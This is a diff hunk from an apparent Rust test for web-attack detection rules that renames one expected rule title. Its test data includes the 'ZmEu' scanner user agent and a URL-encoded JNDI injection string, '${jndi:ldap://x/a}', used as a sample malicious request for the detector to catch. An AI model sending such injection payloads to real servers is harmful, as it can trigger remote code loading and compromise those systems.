@@ -273,7 +273,7 @@ fn single_event_rules_fire_and_near_misses_stay_quiet() {
         ),
         (
             web("/", 200, "ZmEu"),
-            "Web Vulnerability Scanner User Agent",
+            "Web Vulnerability Scanner Activity From One Source",
         ),
         (
             web("/am_bin/amlogin?lang=%24%7bjndi:ldap://x/a%7d", 500, ff),
